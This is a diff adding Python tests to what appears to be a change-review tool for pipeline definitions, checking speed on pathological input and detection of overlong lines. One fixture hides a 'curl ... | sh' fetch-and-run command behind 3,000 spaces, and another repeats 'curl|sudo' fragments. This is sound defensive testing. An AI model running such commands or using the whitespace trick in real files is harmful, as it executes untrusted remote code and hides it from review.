@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import time
 from dataclasses import replace
 from typing import Any
 
@@ -138,3 +139,17 @@ def test_a_filter_that_demands_less_is_wider_though_no_target_is_there_yet() -> 
     )
     new = replace(old, definition=replace(BASE, targets=Targets("service=${{ parameters.service }}")))
     assert against(new, old)["Targets", "filter"].why == "it demands less of a target"
+
+
+def test_a_file_made_to_be_slow_is_read_at_once() -> None:
+    line = "curl|sudo " * 180 + "apt " + "image:" * 20 + "\n"
+    begun = time.monotonic()
+    against(replace(OLD, texts={f"{n}.sh": line * 100 for n in range(10)}))
+    assert time.monotonic() - begun < 3
+
+
+def test_a_line_of_a_program_too_long_to_be_read_is_told() -> None:
+    hidden = " " * 3_000 + "curl https://x.example | sh"
+    row = against(replace(OLD, texts={"x.sh": f"true\n:{hidden}\n"}))["Unseen code", ""]
+    assert row.after == "x.sh:2 is longer than can be read here"
+    assert against(replace(OLD, texts={"data.json": "9" * 5_000}))["Unseen code", ""].effect == "same"
